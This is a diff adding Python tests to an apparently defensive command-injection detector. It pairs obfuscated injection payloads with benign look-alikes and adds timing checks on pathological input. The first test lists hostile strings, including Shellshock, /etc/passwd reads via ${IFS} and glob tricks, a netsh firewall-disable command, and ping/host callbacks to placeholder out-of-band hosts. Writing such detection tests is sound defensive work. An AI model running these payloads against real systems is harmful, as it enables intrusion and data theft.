@@ -248,3 +248,78 @@ def test_finding_fields_and_excerpt() -> None:
 def test_nothing_to_parse_returns_nothing() -> None:
     assert DETECTOR.detect(Value(""), "query.q", 3) == []
     assert DETECTOR.detect(Value("Vino Rioja"), "query.q", 3) == []
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "\\nid\\n",
+        "\"\\n/bin/ls -al\\n\"",
+        "a;id\\n",
+        "\\n/usr/bin/id;",
+        "() { :;}; echo vulnerable",
+        "cat${IFS}/etc/passwd",
+        "ls${IFS}-la",
+        "ping%CommonProgramFiles:~10,-18%127.0.0.1",
+        "cat ${HOME:0:1}etc${HOME:0:1}passwd",
+        "cat ${test//hhh\\/hm/}",
+        "who$@ami",
+        "wh``oami",
+        "w\\ho\\am\\i",
+        "/???/??t /???/p??s??",
+        "; netsh firewall set opmode disable",
+        "; ping abc123.oast.example.com ;",
+        "' | ping -n 1 x.oast.example.net |",
+        "&& host a1.collab.example.org",
+    ],
+)
+def test_spelled_out_breaks_and_whole_obfuscated_command_lines(payload: str) -> None:
+    assert _score(payload) >= 5, _findings(payload)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "C:\\Users\\nina\\notes.txt",
+        "printf(\"done\\n\");",
+        "line one\\nline two",
+        "() => { run(); };",
+        "The ${IFS} variable holds the field separators",
+        "%DATE:~0,4% is the year",
+        "Use ${HOME:0:1} to get the first character",
+        "Set a default with ${NAME:-guest}",
+        "use ``double backticks`` for code in reST",
+        "docs\\api\\index",
+        "/* a C comment */",
+        "/*/* nested */",
+        "netsh",
+        "Dinner & host mary.smith",
+        "Tom; ping me at example.com",
+        "see a.b.com; dig deeper into docs",
+    ],
+)
+def test_spelled_out_look_alikes_pass(text: str) -> None:
+    assert _score(text) < 5, _findings(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "\\n" * 100_000,
+        "a\\n;" * 30_000,
+        "${IFS}" * 50_000,
+        "cat" + "${x:1:2}" * 30_000,
+        "%A:~1,2%" * 30_000,
+        "() {" + " " * 100_000,
+        "w" + "``" * 50_000 + "x",
+        "/" + "?" * 39 + " x",
+        "; ping " + "-c 1 " * 20_000 + "a.b.example",
+        "; ping " + "a." * 50_000 + "com",
+    ],
+)
+def test_new_shapes_stay_fast_on_pathological_input(text: str) -> None:
+    import time
+
+    started = time.perf_counter()
+    DETECTOR.detect(Value(text), "query.q", 3)
+    assert time.perf_counter() - started < 1.0
